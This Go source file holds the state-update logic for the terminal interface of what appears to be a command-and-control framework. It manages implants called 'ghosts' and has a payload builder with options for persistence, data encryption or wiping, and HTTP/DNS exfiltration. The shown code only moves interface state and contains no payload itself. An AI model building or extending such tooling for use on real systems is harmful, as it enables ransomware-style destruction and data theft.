package core

import (
	"fmt"

	"github.com/jask/charon/internal/state"
)

// Update applies one action to app and returns at most one command. It never
// blocks and never performs I/O; the same (state, action) pair always yields
// the same result.
func Update(app *state.AppState, action Action) Command {
	switch a := action.(type) {
	case Quit:
		return QuitProgram{}
	case Tick:
		return handleTick(app)
	case Resize:
		return nil

	case NextTab, Right:
		app.NextTab()
		return enterScreen(app)
	case PrevTab, Left:
		app.PrevTab()
		return enterScreen(app)
	case ToggleHelp:
		app.ShowHelp = !app.ShowHelp
		return nil

	case Up:
		handleNavUp(app)
		return nil
	case Down:
		handleNavDown(app)
		return nil
	case Enter:
		return handleEnter(app)
	case Esc:
		handleEsc(app)
		return nil
	case Backspace:
		handleBackspace(app)
		return nil
	case Char:
		return handleChar(app, a.Rune)

	case OpenActionMenu:
		openActionMenu(app)
		return nil
	case ConfirmKillGhost:
		return confirmKill(app)
	case SubmitGhostConfig:
		return submitConfig(app)
	case ToggleBuilderSwitch:
		app.Builder.Toggle()
		return nil
	case StartBuild:
		return startBuild(app)
	case AutoRefresh:
		return FetchGhosts{}

	case ReceiveGhosts:
		return receiveGhosts(app, a)
	case ReceiveTasks:
		return receiveTasks(app, a)
	case ReceiveTaskSendResult:
		return receiveTaskSend(app, a)
	case ReceiveConfigUpdateResult:
		return receiveConfigUpdate(app, a)
	case ReceiveKillResult:
		return receiveKill(app, a)
	case ReceiveBuildResult:
		return receiveBuild(app, a)
	}
	return nil
}

func handleTick(app *state.AppState) Command {
	app.TickCount++
	if app.RefreshEvery == 0 || app.CurrentScreen != state.ScreenTerminal || app.TickCount%app.RefreshEvery != 0 {
		return nil
	}
	if id := app.ActiveGhostID(); id != "" {
		return FetchTasks{GhostID: id}
	}
	return nil
}

// enterScreen runs after a tab switch. Landing on the terminal refreshes the
// active ghost's history.
func enterScreen(app *state.AppState) Command {
	if app.CurrentScreen != state.ScreenTerminal {
		return nil
	}
	if id := app.ActiveGhostID(); id != "" {
		return FetchTasks{GhostID: id}
	}
	return nil
}

func openActionMenu(app *state.AppState) {
	if app.CurrentScreen != state.ScreenDashboard {
		return
	}
	if _, ok := app.Dashboard.Selected(); ok {
		app.ShowActionMenu = true
	}
}

func confirmKill(app *state.AppState) Command {
	id := app.Dashboard.SelectedID()
	if id == "" {
		app.ShowActionMenu = false
		return nil
	}
	app.ShowActionMenu = false
	app.StatusMessage = fmt.Sprintf("Killing ghost %s...", id)
	return KillGhost{GhostID: id}
}

func submitConfig(app *state.AppState) Command {
	id := app.Dashboard.SelectedID()
	if id == "" {
		app.StatusMessage = "No ghost selected"
		return nil
	}
	app.StatusMessage = "Sending config..."
	return UpdateGhostConfig{
		GhostID: id,
		Config:  ParseGhostConfig(app.Config.SleepInput, app.Config.JitterInput),
	}
}

func startBuild(app *state.AppState) Command {
	b := &app.Builder
	b.BuildStatusMsg = state.BuildRunning
	app.StatusMessage = "Starting build process..."
	return BuildPayload{Options: BuildOptions{
		TargetURL:  b.TargetURL,
		TargetPort: CoercePort(b.TargetPort),
		Debug:      b.EnableDebug,

		Persistence:       b.EnablePersistence,
		PersistRunControl: b.PersistRunControl,
		PersistService:    b.PersistService,
		PersistCron:       b.PersistCron,

		Impact:        b.EnableImpact,
		ImpactEncrypt: b.ImpactEncrypt,
		ImpactWipe:    b.ImpactWipe,

		Exfil:     b.EnableExfil,
		ExfilHTTP: b.ExfilHTTP,
		ExfilDNS:  b.ExfilDNS,
	}}
}
